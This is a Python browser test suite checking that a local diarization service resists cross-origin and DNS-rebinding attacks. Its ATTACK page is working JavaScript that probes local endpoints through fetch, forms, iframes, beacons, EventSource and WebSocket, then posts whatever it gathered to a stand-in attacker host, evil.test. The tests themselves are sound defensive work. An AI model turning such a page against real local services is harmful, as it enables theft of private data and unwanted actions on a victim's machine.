"""What pages can do with a service that needs no key, in a real browser.

The names of the pages resolve to 127.0.0.1, as names of an attacker may do.
"""

from __future__ import annotations

import json
import re

import pytest

from api.conftest import eventually
from api.wire import FORM, call, recording
from support.browser import CHROMIUM, Site, browsing, shown

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (Debian's package is chromium)"),
]

SECRET = "what-nobody-else-may-read"

ATTACK = """<!doctype html><meta charset="utf-8"><body><script>
const targets = TARGETS, elsewhere = ELSEWHERE;
const report = [];
const note = (what, result) => report.push([what, String(result)]);

async function tryFetch(url, options) {
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    note(`${options.method || "GET"} ${options.mode || "cors"} ${url}`, answer.type + answer.status + text);
  } catch (error) { note(url, error); }
}
function form() {
  const fields = new FormData();
  fields.append("audio", new Blob(["{}"]), "evil.wav");
  return fields;
}
function load(tag, attributes) {
  return new Promise(resolve => {
    const element = document.createElement(tag), what = `${tag} ${attributes.src || attributes.href}`;
    element.onload = () => { note(what, "loaded " + read(element)); resolve(); };
    element.onerror = () => { note(what, "failed"); resolve(); };
    Object.assign(element, attributes);
    document.body.append(element);
  });
}
function read(element) {
  try { return element.contentDocument ? element.contentDocument.documentElement.outerHTML : ""; }
  catch (error) { return ""; }
}
function submit(url, enctype, target) {
  const element = document.createElement("form");
  Object.assign(element, {action: url, method: "post", enctype, target});
  const field = document.createElement("input"), data = new DataTransfer();
  data.items.add(new File(["{}"], "evil.wav"));
  Object.assign(field, {type: "file", name: "audio", files: data.files});
  element.append(field);
  document.body.append(element);
  element.submit();
}
function submitInFrame(url, enctype) {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + document.querySelectorAll("iframe").length;
    document.body.append(frame);
    frame.onload = () => { note(`form ${url}`, read(frame)); resolve(); };
    submit(url, enctype, frame.name);
  });
}
function listen(url) {
  return new Promise(resolve => {
    const source = new EventSource(url);
    for (const kind of ["error", "message", "state", "utterance"])
      source.addEventListener(kind, event => {
        note(`events ${url}`, event.type + event.data);
        source.close();
        resolve();
      });
  });
}
function connect(url) {
  return new Promise(resolve => {
    const socket = new WebSocket(url);
    socket.onopen = () => { note(`socket ${url}`, "opened"); resolve(); };
    socket.onerror = () => { note(`socket ${url}`, "failed"); resolve(); };
  });
}
async function attack() {
  const job = "/v1/jobs/" + await (await fetch(elsewhere + "/start")).text();
  for (const target of targets) {
    for (const path of ["/v1/jobs", job, job + "/result", job + "/result?format=txt", "/status", "/openapi.json"]) {
      await tryFetch(target + path, {});
      await tryFetch(target + path, {mode: "no-cors"});
      await load("script", {src: target + path});
    }
    await load("img", {src: target + job + "/result?format=vtt"});
    await load("link", {rel: "stylesheet", href: target + job + "/result?format=txt"});
    await load("iframe", {src: target + job + "/result?format=txt"});
    for (const path of ["/v1/jobs", "/diarize"]) {
      await tryFetch(target + path, {method: "POST", mode: "no-cors", body: form()});
      await tryFetch(target + path, {method: "POST", body: form()});
      await tryFetch(target + path, {method: "POST", body: form(), headers: {"X-Other": "1"}});
      await submitInFrame(target + path, "multipart/form-data");
    }
    navigator.sendBeacon(target + "/diarize", form());
    await tryFetch(target + job + "/cancel", {method: "POST", mode: "no-cors"});
    await tryFetch(target + job, {method: "DELETE"});
    await listen(target + job + "/events");
    await connect(target.replace("http", "ws") + "/v1/jobs");
  }
  await fetch(elsewhere + "/report", {method: "POST", body: JSON.stringify(report)});
  submit(targets[0] + "/v1/jobs", "multipart/form-data", "_top");
}
attack();
</script>"""

OWN_PAGE = """<!doctype html><meta charset="utf-8"><script>
async function work() {
  const fields = new FormData();
  fields.append("audio", new Blob(["{}"]), "own.wav");
  const created = await (await fetch("/v1/jobs", {method: "POST", body: fields})).json();
  await new Promise(resolve => {
    const events = new EventSource(created.links.events);
    events.addEventListener("state", event => {
      if (JSON.parse(event.data).state == "succeeded") { events.close(); resolve(); }
    });
  });
  const result = await (await fetch(created.links.result)).text();
  const status = (await fetch("/status")).status;
  const deleted = (await fetch(created.links.self, {method: "DELETE"})).status;
  return {created, result, status, deleted};
}
work().catch(String).then(report => fetch("/report", {method: "POST", body: JSON.stringify(report)}));
</script>"""


@pytest.fixture
def site():
    """``site(page)``: starts a web server that serves the page."""
    sites = []

    def run(page: str = "", port: int = 0) -> Site:
        sites.append(Site(page, port))
        return sites[-1]

    yield run
    for each in sites:
        each.close()


def answered(service, request: str) -> list[str]:
    """Return the lines of the access log for answers to ``request``, a regular expression."""
    return [line for line in service.log if re.search(rf"\] {request} \d+ ms", line)]


def test_a_page_of_another_origin_queues_nothing_and_reads_nothing(site, start, tmp_path):
    attacker, collector, proxy = Site(), site(), site()
    port = attacker.port
    targets = [
        f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://diarist.test:{port}",
        f"http://diarist.test:{proxy.port}",
        # The service takes the port of the page's server, so this is the page's own origin, as after DNS rebinding.
        f"http://evil.test:{port}",
    ]  # fmt: skip
    attacker.page = ATTACK.replace("TARGETS", json.dumps(targets)).replace(
        "ELSEWHERE", f'"http://evil.test:{collector.port}"'
    )
    with browsing(f"http://evil.test:{port}/page", tmp_path / "profile"):
        assert collector.asked.wait(60)
        attacker.close()
        service = start(FLASK_PORT=port, ALLOWED_HOSTS="diarist.test", MIN_FREE_MB=0)
        service.wait_for("is ready")
        proxy.upstream = service.address
        form = recording(json.dumps({"words": [SECRET]}), labels=json.dumps({"of": SECRET}))
        job_id = call(service.address, "POST", "/v1/jobs", form, FORM).json["id"]
        job = f"/v1/jobs/{job_id}"
        eventually(lambda: call(service.address, "GET", job).json["state"] == "succeeded")
        collector.start(job_id)
        report = collector.reports.get(timeout=120)
        # Three to each other origin, and the form that the page ends with.
        eventually(lambda: len(answered(service, "POST /v1/jobs 403")) == 3 * (len(targets) - 1) + 1)
    assert len(report) > 30 * len(targets)
    assert SECRET in call(service.address, "GET", job + "/result").body.decode()
    leaks = [each for each in report if SECRET in each[1] or "Diarist" in each[1] or re.search(r"\b20\d", each[1])]
    assert leaks == []
    assert [each for each in report if each[0].startswith("script") and each[1] != "failed"] == []
    assert [each for each in report if each[0].startswith("socket") and each[1] != "failed"] == []
    rebound = [each[1] for each in report if each[0] == f"GET cors {targets[-1]}/v1/jobs"]
    assert "host_not_allowed" in rebound[0]
    assert [each["id"] for each in call(service.address, "GET", "/v1/jobs").json["data"]] == [job_id]
    assert len(answered(service, r"POST /v1/jobs 20\d")) == 1
    assert answered(service, r"(POST /diarize|POST \S+/cancel|DELETE \S+) 20\d") == []


def test_a_page_behind_the_same_proxy_uses_the_service(site, start, tmp_path):
    service = start(ALLOWED_HOSTS="diarist.test", MIN_FREE_MB=0)
    service.wait_for("is ready")
    proxy = site(OWN_PAGE)
    proxy.upstream = service.address
    with browsing(f"http://diarist.test:{proxy.port}/page", tmp_path / "profile"):
        report = proxy.reports.get(timeout=60)
    assert report["created"]["filename"] == "own.wav"
    assert json.loads(report["result"])["conversation"]
    assert (report["status"], report["deleted"]) == (200, 204)


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "diarist.localhost"])
def test_its_own_addresses_are_shown(server, tmp_path, name):
    document = shown(f"http://{name}:{server.address[1]}/v1/jobs", tmp_path / "profile")
    assert json.loads(re.search(r"\{.*\}", document)[0])["object"] == "list"


def test_a_strange_name_is_shown_what_to_do(server, tmp_path):
    document = shown(f"http://evil.test:{server.address[1]}/status", tmp_path / "profile")
    assert json.loads(re.search(r"\{.*\}", document)[0])["code"] == "host_not_allowed"
